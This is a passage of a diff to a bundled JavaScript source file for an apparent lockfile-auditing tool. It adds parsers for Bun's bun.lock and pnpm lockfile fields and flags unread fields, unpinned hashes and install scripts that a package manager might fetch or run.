   );
   const joined8 = neighbours(workflows);
-  const found9 = new Set(workflows.filter(({ path, text: text2 }) => /tauri/i.test(text2) || running.has(path)));
+  const found9 = new Set(workflows.filter(({ path, text: text3 }) => /tauri/i.test(text3) || running.has(path)));
   for (const each of found9) for (const other of joined8.get(each) ?? []) found9.add(other);
   const paths3 = new Set([...found9].map(({ path }) => path));
   return (path) => paths3.has(path);
@@ -19005,11 +19234,11 @@ function namesTauri({ words: words3 }) {
 }
 function unreadWorkflows({ files }) {
   return [...files.values()].flatMap((file2) => {
-    const { path, text: text2 } = file2;
-    const mayInstall = isWorkflow(path) && /tauri/i.test(text2) && /\b(?:npm|pnpm|yarn|bun)\b/.test(text2);
+    const { path, text: text3 } = file2;
+    const mayInstall = isWorkflow(path) && /tauri/i.test(text3) && /\b(?:npm|pnpm|yarn|bun)\b/.test(text3);
     if (!mayInstall || parseFile(file2).ok) return [];
     return [
-      { folders: null, managers: ANY_MANAGER, settings: [], forces: true, source: path, at: topOf(path) }
+      { folders: null, managers: INSTALLERS, settings: [], forces: true, source: path, at: topOf(path) }
     ];
   });
 }
@@ -19042,17 +19271,2056 @@ function commandsOfFiles(project) {
 }
 function foldersNamed2({ words: words3, folders, source, path, line, isPrinted }, project) {
   if (isPrinted || isPackageManifest(path)) return [];
-  const named9 = words3.filter(isKnown).flatMap((word2) => {
+  const named10 = words3.filter(isKnown).flatMap((word2) => {
     const places2 = (folders ?? [""]).flatMap((folder) => resolved(folder, word2.replace(/^[^=]*=/, "")) ?? []);
     return places2.flatMap((place) => projectAbove(place, project) ?? []);
   });
-  if (named9.length === 0) return [];
+  if (named10.length === 0) return [];
   const at2 = { path, line, column: 1, endLine: line };
-  return [{ folders: [...new Set(named9)], managers: [], settings: [], forces: false, source, at: at2 }];
+  return [{ folders: [...new Set(named10)], managers: [], settings: [], forces: false, source, at: at2 }];
 }
 function projectAbove(place, { contents }) {
   const inside = withAncestors(place).filter((folder) => folder !== "");
   return inside.find((folder) => contents.isFile(inFolder(folder, "package.json")));
+}
+
+// src/formats/bun-fields.ts
+var TEXT2 = { is: ({ kind }) => kind === "string", words: "a text" };
+var SWITCH2 = { is: ({ kind }) => kind === "boolean", words: "`true` or `false`" };
+var LIST = { is: isList, words: "a list of texts" };
+var TEXTS2 = { is: isTexts2, words: "a table of texts" };
+var COMMANDS = { is: (value) => TEXT2.is(value) || isTexts2(value), words: "a table of commands" };
+var PLATFORMS2 = { is: (value) => TEXT2.is(value) || isList(value), words: "a list of texts" };
+var REQUIREMENTS = { is: isRequirements, words: "a table of requirements" };
+var TABLES4 = ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"];
+var IN_BOTH = [
+  ...TABLES4.map((name) => [name, REQUIREMENTS]),
+  ["optionalPeers", LIST],
+  ["bin", COMMANDS],
+  ["binDir", TEXT2]
+];
+var WORKSPACE_FIELDS = new Map([...IN_BOTH, ["name", TEXT2], ["version", TEXT2]]);
+var INFO_FIELDS = new Map([
+  ...IN_BOTH,
+  ["bundled", SWITCH2],
+  ["hasInstallScript", SWITCH2],
+  ...["os", "cpu", "libc"].map((name) => [name, PLATFORMS2])
+]);
+var FILE_FIELDS = /* @__PURE__ */ new Map([
+  ["lockfileVersion", { is: ({ kind }) => kind === "number", words: "a number" }],
+  // Which of its layouts of `node_modules` Bun takes if no setting says so.
+  [
+    "configVersion",
+    { is: (value) => value.kind === "number" && [0, 1].includes(value.value), words: "0 or 1" }
+  ],
+  ["trustedDependencies", LIST],
+  ["patchedDependencies", TEXTS2],
+  ["overrides", { is: isOverrides, words: "a table of texts, or of tables of texts" }],
+  ["catalog", TEXTS2],
+  ["catalogs", { is: isCatalogs, words: "a table of tables of texts" }],
+  ["workspaces", { is: isTable, words: "a table" }],
+  ["packages", { is: isTable, words: "a table" }]
+]);
+function isTable(value) {
+  return value.kind === "object";
+}
+function isList(value) {
+  return value.kind === "array" && value.items.every(({ kind }) => kind === "string");
+}
+function isTexts2(value) {
+  return isTableOf(value, TEXT2.is);
+}
+function isOverrides(value) {
+  return isTableOf(value, (each) => TEXT2.is(each) || isTexts2(each));
+}
+function isCatalogs(value) {
+  return isTableOf(value, isTexts2);
+}
+function isRequirements(value) {
+  return isTexts2(value) && value.kind === "object" && [...value.entries.keys()].every(isPackageName);
+}
+function isTableOf(value, is) {
+  return value.kind === "object" && [...value.entries.values()].every((entry) => is(entry.value));
+}
+var REMEDY2 = "Take it out, or let Bun write the lockfile anew.";
+function unreadFields2(what, name, table2, known7) {
+  if (table2.kind !== "object") return [];
+  const gaps = [];
+  for (const [field2, { key, value }] of table2.entries) {
+    const shape = known7.get(field2);
+    if (shape?.is(value) === true) continue;
+    const why = shape === void 0 ? "isn't read" : `isn't ${shape.words}`;
+    const message = `${code(field2)} of ${what} ${code(name)} ${why}, and Bun may fetch or run what it says. ${REMEDY2}`;
+    gaps.push(
+      gapAt(key, {
+        kind: "not-followed",
+        rests: wordsOf("bun field", what, name, field2, plain(table2)),
+        message
+      })
+    );
+  }
+  return gaps;
+}
+function oddEntry(name, at2, why, entry) {
+  const message = `The entry ${code(name)} ${why}, so it isn't known what Bun makes of it. ${REMEDY2}`;
+  return gapAt(at2, { kind: "not-followed", rests: wordsOf("bun entry", name, why, plain(entry)), message });
+}
+function asksIn(table2) {
+  const mayMiss = new Set(stringsOf(member(table2, "optionalPeers")).map(({ value }) => value));
+  return TABLES4.flatMap((group2) => {
+    const requirements = member(table2, group2);
+    if (requirements?.kind !== "object") return [];
+    const isDev = group2 === "devDependencies";
+    return [...requirements.entries].map(([name, entry]) => {
+      const isOptional = group2 === "optionalDependencies" || group2 === "peerDependencies" && mayMiss.has(name);
+      return { name, text: asString(entry.value) ?? "", isDev, isOptional, at: entry.key };
+    });
+  });
+}
+
+// src/formats/bun-source.ts
+var PREFIXES = [
+  ["root:", "root"],
+  ["link:", "folder"],
+  ["workspace:", "workspace"],
+  ["file:", "folder"]
+];
+function idIn(written6) {
+  if (written6.startsWith("@root:")) return { name: "", kind: "root", text: "root:" };
+  const end = written6.indexOf("@", 1);
+  if (end < 0) return { name: written6, kind: "unknown", text: "" };
+  const text3 = written6.slice(end + 1);
+  return { name: written6.slice(0, end), kind: kindOf(text3), text: text3 };
+}
+var GITHUB = /^github:([\w.-]+\/[\w.-]+)(?:#(.*))?$/s;
+var GIT = /^git\+(?:(?:ssh|https?|file):\/\/|git@)/;
+var MAYBE_GIT = /^https?:\/\/(?:[^/]*@)?(?:www\.)?github\.com\/[^/]+\/[^/]+\/?(?:#|$)|\.git(?:[/?#]|$)/i;
+function kindOf(text3) {
+  const known7 = PREFIXES.find(([prefix]) => text3.startsWith(prefix))?.[1];
+  if (known7 !== void 0) return known7;
+  if (isVersion(text3)) return "npm";
+  if (GITHUB.test(text3) || GIT.test(text3)) return "git";
+  if (/^https?:\/\//i.test(text3)) return MAYBE_GIT.test(text3) ? "unknown" : "tarball";
+  return !text3.includes(":") && /\.(?:tgz|tar\.gz)$/.test(text3) ? "tarball" : "unknown";
+}
+function bunSource({ name, kind, text: text3 }, registry, isBundled) {
+  if (isBundled) return BUNDLED;
+  switch (kind) {
+    case "npm":
+      if (registry !== "" && !/^https?:\/\//i.test(registry)) return { kind: "unknown", text: registry };
+      return npmSource({ name, version: text3, resolved: registry, local: false });
+    case "folder":
+    case "workspace":
+    case "root":
+      return THIS_REPOSITORY;
+    case "tarball":
+      return { kind: "tarball", url: addressOf2(text3) };
+    case "git":
+      return npmSource({ name, version: "", resolved: repositoryIn(text3), local: false });
+    case "unknown":
+      return { kind: "unknown", text: text3 };
+  }
+}
+function addressOf2(text3) {
+  if (URL.canParse(text3)) return new URL(text3).href;
+  return /^https?:/i.test(text3) ? text3 : `file:${text3.replace(/^(?:\.\/)+/, "")}`;
+}
+function repositoryIn(text3) {
+  const [, repository, commit] = GITHUB.exec(text3) ?? [];
+  if (repository !== void 0)
+    return `git+https://github.com/${repository}${commit === void 0 ? "" : `#${commit}`}`;
+  return text3.replace(/^git\+(?:ssh:\/\/)?git@([^/:]+):(?!\d+\/)/, "git+https://$1/");
+}
+function targetOf({ kind, text: text3 }) {
+  if (kind === "root") return "";
+  const isFolder = kind === "folder" || kind === "workspace";
+  return isFolder ? text3.slice(text3.indexOf(":") + 1).replace(/^(?:\.\/)+/, "") : null;
+}
+
+// src/formats/bun-entry.ts
+function entryOf(path, { key: at2, value }) {
+  const [first, ...others] = value.kind === "array" ? value.items : [];
+  const written6 = asString(first);
+  if (first === void 0 || written6 === void 0) return null;
+  const id = idIn(written6);
+  const { registry, info, tag, hash, isWhole: isWhole2 } = partsOf9(id, others);
+  const source = bunSource(id, asString(registry) ?? "", asBoolean(member(info, "bundled")) === true);
+  const gaps = info === void 0 ? [] : unreadFields2("the entry", path, info, INFO_FIELDS);
+  const odd = (why) => gaps.push(oddEntry(path, at2, why, value));
+  if (!isWhole2) odd("has other parts than Bun writes");
+  if (source.kind === "unknown") odd("names a source that isn't known");
+  if (id.kind !== "root" && !isPackageName(id.name)) odd("names no package that npm could publish");
+  if (tag !== void 0 && !isTagOf(source, asString(tag) ?? "")) odd("has a tag that isn't its commit's");
+  const hashes = asString(hash) ?? "";
+  const isPinned = isChecked(hashes);
+  if (hashes !== "" && !isPinned) gaps.push(uncheckedHash(path, hash?.at ?? at2, value));
+  return {
+    key: keyOf2(written6, id, source),
+    id,
+    source,
+    integrity: isPinned ? hashes : null,
+    info,
+    at: at2,
+    lines: { version: first.at, source: registry?.at ?? first.at, checksum: hash?.at ?? at2 },
+    gaps
+  };
+}
+function keyOf2(written6, { kind }, source) {
+  if (source.kind === "bundled") return `${written6} bundled`;
+  const isElsewhere = kind === "npm" && source !== OWN_REGISTRY;
+  return isElsewhere ? `${written6} from ${sourceText(source)}` : written6;
+}
+function partsOf9({ kind }, others) {
+  const [one2, two, three] = others;
+  const size = others.length;
+  switch (kind) {
+    case "npm":
+      return shaped({ registry: one2, info: two, hash: three }, size === 3);
+    case "tarball":
+      return shaped({ info: one2, hash: two }, size === 1 || size === 2);
+    case "git":
+      return shaped({ info: one2, tag: two, hash: three }, size === 2 || size === 3);
+    case "workspace":
+      return shaped({ info: one2 }, size <= 1);
+    case "root":
+    case "folder":
+      return shaped({ info: one2 }, size === 1);
+    case "unknown":
+      return { isWhole: true };
+  }
+}
+function shaped({ registry, info, tag, hash }, hasAll) {
+  const texts = [registry, tag, hash].filter((each) => each !== void 0);
+  const isWhole2 = hasAll && texts.every(({ kind }) => kind === "string") && (info?.kind ?? "object") === "object";
+  return {
+    ...registry && { registry },
+    ...info && { info },
+    ...tag && { tag },
+    ...hash && { hash },
+    isWhole: isWhole2
+  };
+}
+function isTagOf(source, tag) {
+  const commit = source.kind === "git" ? source.commit : null;
+  return commit !== null && commit !== "" && /^[\w.-]+$/.test(tag) && (tag === commit || tag.endsWith(`-${commit}`));
+}
+var HASHES = /* @__PURE__ */ new Map([
+  ["sha1", { size: 28, pad: "=" }],
+  ["sha256", { size: 44, pad: "=" }],
+  ["sha384", { size: 64, pad: "" }],
+  ["sha512", { size: 88, pad: "==" }]
+]);
+var HASH = /^(sha\d+)-([A-Za-z0-9+/]+(=*))$/;
+function isChecked(text3) {
+  const [, algorithm = "", digest = "", pad] = HASH.exec(text3) ?? [];
+  const whole2 = HASHES.get(algorithm);
+  return whole2 !== void 0 && digest.length === whole2.size && pad === whole2.pad;
+}
+function uncheckedHash(path, at2, entry) {
+  const message = `The hash of the entry ${code(path)} is none that Bun checks, so nothing pins what is fetched. ${REMEDY2}`;
+  return gapAt(at2, { kind: "not-followed", rests: wordsOf("bun hash", path, plain(entry)), message });
+}
+
+// src/formats/bun-tree.ts
+function emptyTree() {
+  return { name: "", parent: null, inside: /* @__PURE__ */ new Map(), held: null };
+}
+var DEEPEST3 = 128;
+function namesIn2(path) {
+  const parts = path.split("/", 2 * DEEPEST3 + 1);
+  const names3 = [];
+  for (let at2 = 0; at2 < parts.length; at2++) {
+    const part = parts[at2] ?? "";
+    names3.push(part.startsWith("@") ? `${part}/${parts[++at2] ?? ""}` : part);
+  }
+  return names3.length > DEEPEST3 ? void 0 : names3;
+}
+function folderAt(tree, names3) {
+  return names3.reduce((folder, name) => {
+    const known7 = folder.inside.get(name);
+    if (known7 !== void 0) return known7;
+    const made2 = { ...emptyTree(), name, parent: folder };
+    folder.inside.set(name, made2);
+    return made2;
+  }, tree);
+}
+function heldFor(folder, name) {
+  for (let at2 = folder; at2 !== null; at2 = at2.parent) {
+    const held2 = at2.inside.get(name)?.held;
+    if (held2 !== void 0 && held2 !== null) return held2;
+  }
+  return null;
+}
+
+// src/formats/bun-workspaces.ts
+function workspacesIn(table2) {
+  const gaps = [];
+  const names3 = /* @__PURE__ */ new Set();
+  const workspaces = [...table2.entries].map(([folder, { key: at2, value }]) => {
+    const name = asString(member(value, "name")) ?? "";
+    const isNamed5 = folder === "" || isPackageName(name) && !names3.has(name);
+    if (!isNamed5 || value.kind !== "object")
+      gaps.push(oddEntry(folder, at2, "is no workspace with a name of its own", value));
+    if (folder !== "") names3.add(name);
+    gaps.push(...unreadFields2("the workspace", folder === "" ? "." : folder, value, WORKSPACE_FIELDS));
+    return { folder, name, version: asString(member(value, "version")) ?? "", asks: asksIn(value), at: at2 };
+  });
+  return { workspaces, gaps };
+}
+function workspaceKey({ name, folder }) {
+  return `${name}@workspace:${folder}`;
+}
+
+// src/formats/bun-releases.ts
+function releasesIn(table2, workspaces) {
+  const reader = new ReleaseReader(workspaces);
+  for (const [path, entry] of table2?.entries ?? []) reader.take(path, entry);
+  reader.takeWorkspaces();
+  reader.takeNeeds();
+  return reader;
+}
+var ReleaseReader = class {
+  byKey = /* @__PURE__ */ new Map();
+  tree = emptyTree();
+  gaps = [];
+  #workspaces;
+  #held = [];
+  constructor(workspaces) {
+    const inside = workspaces.filter(({ folder }) => folder !== "");
+    this.#workspaces = new Map(inside.map((each) => [workspaceKey(each), each]));
+  }
+  take(path, member2) {
+    const names3 = namesIn2(path);
+    const entry = entryOf(path, member2);
+    const fault = names3 === void 0 ? "lies deeper than Bun would nest it" : faultOf2(names3, entry);
+    if (fault !== void 0) this.gaps.push(oddEntry(path, member2.key, fault, member2.value));
+    if (names3 === void 0 || entry === null) return;
+    for (const gap3 of entry.gaps) this.gaps.push(gap3);
+    const folder = folderAt(this.tree, names3);
+    const release = this.#releaseOf(entry);
+    if (entry.integrity !== release.entry.integrity) this.gaps.push(otherBytes(path, entry, release.entry));
+    release.names.add(folder.name);
+    if (saysScript(entry)) release.hasInstallScript = true;
+    folder.held = release;
+    if (entry.id.kind !== "workspace") this.#held.push([folder, release, asksIn(entry.info)]);
+    else if (!this.#workspaces.has(entry.key))
+      this.gaps.push(
+        oddEntry(path, member2.key, "is a workspace that the lockfile doesn't list", member2.value)
+      );
+  }
+  #releaseOf(entry) {
+    const known7 = this.byKey.get(entry.key);
+    if (known7 !== void 0) return known7;
+    const version = entry.id.kind === "npm" ? entry.id.text : this.#workspaces.get(entry.key)?.version ?? "";
+    const made2 = { entry, version, names: /* @__PURE__ */ new Set(), needs: /* @__PURE__ */ new Map(), hasInstallScript: false };
+    this.byKey.set(entry.key, made2);
+    return made2;
+  }
+  /** Workspaces count even if `packages` doesn't list them: their names are taken from the start. */
+  takeWorkspaces() {
+    for (const [key, workspace] of this.#workspaces) {
+      const release = this.#releaseOf(entryForWorkspace(key, workspace));
+      const folder = folderAt(this.tree, [workspace.name]);
+      if (folder.held !== null && folder.held !== release)
+        this.gaps.push(takenName(workspace, folder.held.entry));
+      folder.held = release;
+      release.names.add(workspace.name);
+      this.#held.push([folder, release, workspace.asks]);
+    }
+  }
+  takeNeeds() {
+    for (const [folder, release, asks] of this.#held) {
+      for (const ask of asks) {
+        const needed = heldFor(folder, ask.name);
+        if (needed !== null) release.needs.set(needed, ask.isOptional && release.needs.get(needed) !== false);
+        else if (!ask.isOptional) this.gaps.push(missing(release.entry.key, ask));
+      }
+    }
+  }
+};
+function faultOf2(names3, entry) {
+  if (!names3.every(isPackageName)) return "is no path of packages";
+  return entry === null ? "is no list that begins with a package" : void 0;
+}
+function saysScript({ info }) {
+  return asBoolean(member(info, "hasInstallScript")) === true;
+}
+function otherBytes(path, entry, first) {
+  const message = `The entry ${code(path)} pins ${code(entry.key)} to another hash than an entry before it, so it isn't known which one counts. ${REMEDY2}`;
+  const rests = wordsOf("bun hashes", entry.key, entry.integrity, first.integrity);
+  return gapAt(entry.lines.checksum, { kind: "not-followed", rests, message });
+}
+function entryForWorkspace(key, { at: at2 }) {
+  const lines2 = { version: at2, source: at2, checksum: at2 };
+  return {
+    key,
+    id: idIn(key),
+    source: THIS_REPOSITORY,
+    integrity: null,
+    info: void 0,
+    at: at2,
+    lines: lines2,
+    gaps: []
+  };
+}
+function takenName({ name, folder }, { key, at: at2 }) {
+  const message = `${code(name)} is the workspace ${code(folder)} and another package too, so it isn't known which one counts. ${REMEDY2}`;
+  return gapAt(at2, { kind: "not-followed", rests: wordsOf("bun workspace", name, folder, key), message });
+}
+function missing(who, { name, text: text3, at: at2 }) {
+  const message = `${code(who)} asks for ${code(`${name}@${text3}`)}, which the lockfile lacks, so Bun may resolve everything anew. Let Bun write the lockfile anew.`;
+  return gapAt(at2, { kind: "not-checked", rests: wordsOf("bun requirement", who, name, text3), message });
+}
+
+// src/formats/bun-scope.ts
+function scopesFrom(starts) {
+  const all = reached2(starts, true);
+  const always = reached2(
+    starts.filter(({ isDev }) => !isDev),
+    true
+  );
+  const firmly = reached2(
+    starts.filter(({ isOptional }) => !isOptional),
+    false
+  );
+  return (release) => {
+    const isProven = all.has(release) && !isWorkspace(release);
+    return { isDev: isProven && !always.has(release), isOptional: isProven && !firmly.has(release) };
+  };
+}
+function reached2(starts, optionally) {
+  const found9 = new Set(starts.map(({ release }) => release));
+  for (const release of found9) {
+    if (isWorkspace(release)) continue;
+    for (const [needed, isOptional] of release.needs) if (optionally || !isOptional) found9.add(needed);
+  }
+  return found9;
+}
+function isWorkspace({ entry }) {
+  return entry.id.kind === "workspace" || entry.id.kind === "root";
+}
+
+// src/formats/bun-settings.ts
+var TABLES5 = ["overrides", "patchedDependencies", "catalog", "catalogs"];
+function bunSettings(lock) {
+  const trusted = stringsOf(member(lock, "trustedDependencies"));
+  return [
+    ...trusted.map(({ value, at: at2 }) => ({ name: "trustedDependencies", value, at: at2 })),
+    ...TABLES5.flatMap((name) => settingsIn(name, member(lock, name), ""))
+  ];
+}
+function settingsIn(name, table2, above) {
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].flatMap(([key, { key: at2, value }]) => {
+    const text3 = asString(value);
+    if (text3 !== void 0) return [{ name, value: `${above}${key} ${text3}`, at: at2 }];
+    return above === "" ? settingsIn(name, value, `${key} > `) : [];
+  });
+}
+
+// src/formats/bun-text.ts
+var SIGNS2 = /* @__PURE__ */ new Set(["{", "}", "[", "]", ":", ","]);
+var COMMENT = /\/\/[^\n\r\u2028\u2029]*|\/\*.*?\*\//sy;
+function oddSyntax(file2) {
+  const scanner = new JsonScanner(file2.text, "json");
+  try {
+    skipMark(file2.text, scanner);
+    while (scanner.skipSpace() < file2.text.length) takeWord(file2.text, scanner);
+    return [];
+  } catch (error) {
+    if (!(error instanceof Unreadable)) throw error;
+    const message = `${code(file2.path)} holds what no known Bun writes, so Bun may read it in another way or not at all: ${error.message} Let Bun write the lockfile anew.`;
+    const at2 = placesIn(file2)(error.offset, error.offset);
+    return [gapAt(at2, { kind: "not-followed", rests: contentOf(file2), message })];
+  }
+}
+function skipMark(text3, scanner) {
+  if (text3.startsWith("\uFEFF")) scanner.offset = 1;
+}
+function takeWord(text3, scanner) {
+  const next2 = scanner.peek();
+  if (SIGNS2.has(next2)) scanner.offset++;
+  else if (next2 === '"') scanner.string();
+  else if (next2 === "/") takeComment(text3, scanner);
+  else scanner.literal();
+}
+function takeComment(text3, scanner) {
+  COMMENT.lastIndex = scanner.offset;
+  if (!COMMENT.test(text3)) throw new Unreadable("A comment doesn't end.", scanner.offset);
+  scanner.offset = COMMENT.lastIndex;
+}
+
+// src/formats/bun-lock.ts
+var FORMATS = ["0", "1", "2", "3"];
+function readBunLock(file2) {
+  const parsed7 = parseFile(file2);
+  if (!parsed7.ok) {
+    const message = `${code(file2.path)} isn't a lockfile that Bun can read, so no version in it counts: ${parsed7.message}`;
+    return empty2(file2, "", gapAt(parsed7.at, { kind: "unparsed", rests: contentOf(file2), message }));
+  }
+  const version = versionOf3(parsed7.value);
+  const [workspaces, packages] = ["workspaces", "packages"].map((name) => member(parsed7.value, name));
+  const isWhole2 = FORMATS.includes(version) && member(workspaces, "")?.kind === "object";
+  if (!isWhole2 || workspaces?.kind !== "object" || (packages ?? workspaces).kind !== "object") {
+    const message = `${code(file2.path)} has a shape that no known Bun writes. Formats ${FORMATS[0]} to ${FORMATS.at(-1)} are read.`;
+    return empty2(file2, version, gapIn(file2.path, { kind: "unsupported", rests: contentOf(file2), message }));
+  }
+  const table2 = packages?.kind === "object" ? packages : void 0;
+  if ((table2?.entries.size ?? 0) + workspaces.entries.size > MOST_PACKAGES) {
+    const message = `${code(file2.path)} names more than ${MOST_PACKAGES} packages; none of them was compared.`;
+    return empty2(file2, version, gapIn(file2.path, { kind: "truncated", rests: contentOf(file2), message }));
+  }
+  const duplicates2 = parsed7.duplicates.map(({ name, at: at2 }) => {
+    const message = `${code(name)} stands twice in one object of ${code(file2.path)}; readers differ in which one counts.`;
+    return gapAt(at2, { kind: "dynamic", rests: contentOf(file2), message });
+  });
+  const odd = [
+    ...oddSyntax(file2),
+    ...duplicates2,
+    ...unreadFields2("the lockfile", "bun.lock", parsed7.value, FILE_FIELDS)
+  ];
+  return lockedIn(file2.path, version, parsed7.value, { workspaces, packages: table2 }, odd);
+}
+function versionOf3(lock) {
+  const number = member(lock, "lockfileVersion");
+  return number?.kind === "number" ? String(number.value) : "";
+}
+function empty2({ path }, version, gap3) {
+  const nothing = { packages: /* @__PURE__ */ new Map(), projects: /* @__PURE__ */ new Map(), settings: [], answerTo: () => void 0 };
+  return { path, manager: "bun", version, ...nothing, gaps: [gap3] };
+}
+function lockedIn(path, version, lock, tables2, odd) {
+  const { workspaces, gaps } = workspacesIn(tables2.workspaces);
+  const releases = releasesIn(tables2.packages, workspaces);
+  const starts = new Map(workspaces.map((each) => [each.folder, startsOf2(each, releases)]));
+  const scopeOf5 = scopesFrom([...starts.values()].flat());
+  const locked = [...releases.byKey].map(
+    ([key, release]) => [key, lockedPackage(release, scopeOf5(release))]
+  );
+  const project = workspaces.find(({ folder }) => folder === "");
+  return {
+    path,
+    manager: "bun",
+    version,
+    packages: new Map(locked),
+    projects: new Map(
+      [...starts].map(([folder, each]) => [folder, keysOf(each.map(({ release }) => release))])
+    ),
+    answerTo: answersIn(workspaces, releases, version === "0"),
+    settings: bunSettings(lock),
+    gaps: [...odd, ...gaps, ...releases.gaps, ...project === void 0 ? [] : missingIn2(project, releases)]
+  };
+}
+function lockedPackage(release, scope) {
+  const { id, source, integrity, at: at2, lines: lines2 } = release.entry;
+  return {
+    name: id.name,
+    version: release.version,
+    source,
+    integrity,
+    isArchiveHash: true,
+    // Bun 1.4 writes `true`. But where nothing is written, it looks into the archive and runs what it finds there.
+    hasInstallScript: release.hasInstallScript ? true : null,
+    scope,
+    names: [...release.names],
+    needs: keysOf([...release.needs.keys()]),
+    target: targetOf(id),
+    at: at2,
+    lines: lines2
+  };
+}
+function keysOf(releases) {
+  return [...new Set(releases.map(({ entry }) => entry.key))];
+}
+function heldIn3({ folder, name }, wanted, { tree }) {
+  return heldFor((folder === "" ? void 0 : tree.inside.get(name)) ?? tree, wanted);
+}
+function startsOf2(workspace, releases) {
+  return workspace.asks.flatMap(({ name, isDev, isOptional }) => {
+    const release = heldIn3(workspace, name, releases);
+    return release === null ? [] : [{ release, isDev, isOptional }];
+  });
+}
+function missingIn2(project, releases) {
+  return project.asks.filter((ask) => !ask.isOptional && heldIn3(project, ask.name, releases) === null).map((ask) => missing("package.json", ask));
+}
+function answersIn(workspaces, releases, isOldest) {
+  const byFolder = new Map(workspaces.map((each) => [each.folder, each]));
+  return (folder, name, text3) => {
+    const workspace = byFolder.get(folder);
+    const asks = workspace?.asks.filter((ask) => ask.name === name) ?? [];
+    const held2 = workspace === void 0 ? null : heldIn3(workspace, name, releases);
+    const isLink = held2 !== null && (isWorkspace(held2) || held2.entry.id.text.startsWith("link:"));
+    const meant = asks.find(
+      (ask) => ask.text === text3 || isOldest && isLink && text3.startsWith("workspace:")
+    );
+    if (meant === void 0) return void 0;
+    if (held2 === null) return meant.isOptional ? null : void 0;
+    return isLink ? null : held2.entry.key;
+  };
+}
+
+// src/formats/pnpm-fields.ts
+var ANY2 = { is: () => true, words: "" };
+var TEXT3 = { is: ({ kind }) => kind === "string", words: "a text" };
+var SWITCH3 = { is: ({ kind }) => kind === "boolean", words: "`true` or `false`" };
+var LIST2 = { is: ({ kind }) => kind === "array", words: "a list" };
+var TABLE2 = { is: ({ kind }) => kind === "object", words: "a table" };
+var REFERENCES = { is: isReferences, words: "a table of packages" };
+function isReferences(value) {
+  return value.kind === "object" && value.entries.entries().every(([name, entry]) => isPackageName(name) && TEXT3.is(entry.value));
+}
+function fields(...groups3) {
+  return new Map(groups3.flatMap(([shape, ...names3]) => names3.map((name) => [name, shape])));
+}
+var HARMLESS_OF_PACKAGES = [
+  ...["engines", "cpu", "os", "libc", "deprecated", "hasBin", "bundledDependencies", "bundleDependencies"],
+  ...["peerDependencies", "peerDependenciesMeta"]
+];
+var EDGES = ["dependencies", "optionalDependencies"];
+var PACKAGE_FIELDS = fields(
+  [ANY2, ...HARMLESS_OF_PACKAGES],
+  [TEXT3, "name", "version"],
+  [TABLE2, "resolution"]
+);
+var SNAPSHOT_FIELDS = fields(
+  [ANY2, "transitivePeerDependencies"],
+  [REFERENCES, ...EDGES],
+  [SWITCH3, "optional"],
+  [TEXT3, "id"]
+);
+var INSTANCE_FIELDS = new Map([
+  ...PACKAGE_FIELDS,
+  ...SNAPSHOT_FIELDS,
+  ...fields([SWITCH3, "dev", "requiresBuild", "prepare", "patched"])
+]);
+var RESOLUTION_FIELDS = /* @__PURE__ */ new Map([
+  ["", fields([TEXT3, "integrity", "tarball", "registry", "path"], [SWITCH3, "gitHosted"])],
+  ["git", fields([TEXT3, "type", "repo", "commit", "path"])],
+  ["directory", fields([TEXT3, "type", "directory"])]
+]);
+var IMPORTER_FIELDS = fields(
+  [TABLE2, ...EDGES, "devDependencies", "dependenciesMeta", "specifiers"],
+  [TEXT3, "publishDirectory"],
+  [SWITCH3, "linkDirectory"]
+);
+var ENVIRONMENT_FIELDS = fields([TABLE2, "configDependencies", "packageManagerDependencies"]);
+var OF_DOCUMENTS = fields([TEXT3, "lockfileVersion"], [TABLE2, "importers", "packages"]);
+var SNAPSHOTS = fields([TABLE2, "snapshots"]);
+var OF_PROJECTS = fields(
+  [ANY2, "settings", "catalogs", "time", "ignoredOptionalDependencies"],
+  [TEXT3, "packageExtensionsChecksum", "pnpmfileChecksum"],
+  [TABLE2, "overrides", "patchedDependencies"]
+);
+var OLDER = new Map([
+  ...fields([LIST2, "onlyBuiltDependencies", "neverBuiltDependencies"]),
+  ...IMPORTER_FIELDS
+]);
+function documentFields(format, isEnvironment) {
+  if (isEnvironment) return new Map([...OF_DOCUMENTS, ...SNAPSHOTS]);
+  return new Map([...OF_DOCUMENTS, ...OF_PROJECTS, ...format.hasSnapshots ? SNAPSHOTS : OLDER]);
+}
+var REMEDY3 = "Take it out, or let pnpm write the lockfile anew.";
+function unreadFields3(subject, { key, value }, known7) {
+  if (value.kind !== "object") return [oddity(subject, key, "is no table", value)];
+  const gaps = [];
+  for (const [field2, entry] of value.entries) {
+    const shape = known7.get(field2);
+    if (shape?.is(entry.value)) continue;
+    const why = shape === void 0 ? "isn't read" : `isn't ${shape.words}`;
+    const message = `${code(field2)} of ${named2(subject)} ${why}, and pnpm may fetch or run what it says. ${REMEDY3}`;
+    const rests = restsOn(subject, field2, subject.kind === "entry" ? value : entry.value);
+    gaps.push(gapAt(entry.key, { kind: "not-followed", rests, message }));
+  }
+  return gaps;
+}
+function oddity(subject, at2, why, entry) {
+  const message = `In the lockfile ${named2(subject)} ${why}, so it isn't known what pnpm makes of it. ${REMEDY3}`;
+  return gapAt(at2, { kind: "not-followed", rests: restsOn(subject, why, entry), message });
+}
+function named2({ kind, name }) {
+  return `the ${kind} ${code(name)}`;
+}
+function restsOn({ kind, name }, what, value) {
+  return wordsOf("pnpm", kind, name, what, plain(value));
+}
+
+// src/formats/pnpm-answers.ts
+function answered({ folder, requirements }, format, instances, releases, gaps) {
+  const answers = requirements.map((requirement) => {
+    const { name, reference, entry } = requirement;
+    const key = reference === null ? null : format.keyOf(reference, name);
+    if (key === null) return { ...requirement, release: null };
+    const release = instances.get(key);
+    if (release === void 0) {
+      const why = `asks for ${code(name)}, which the lockfile lacks`;
+      gaps.push(oddity({ kind: "folder", name: folder }, entry.key, why, entry.value));
+    }
+    if (typeof release === "string") releases.ask(release, name, null);
+    return { ...requirement, release: release ?? void 0 };
+  });
+  return { folder, answers };
+}
+var FOR_DEVELOPMENT = "devDependencies";
+function rootsOf2(folders, forDevelopment) {
+  const answers = folders.flatMap((each) => each.answers);
+  return new Set(releasesOf(answers.filter(({ table: table2 }) => table2 === FOR_DEVELOPMENT === forDevelopment)));
+}
+function projectsOf(folders) {
+  const projects = /* @__PURE__ */ new Map();
+  for (const { folder, answers } of folders)
+    projects.set(folder, (projects.get(folder) ?? /* @__PURE__ */ new Set()).union(new Set(releasesOf(answers))));
+  return new Map([...projects].map(([folder, releases]) => [folder, [...releases]]));
+}
+function releasesOf(answers) {
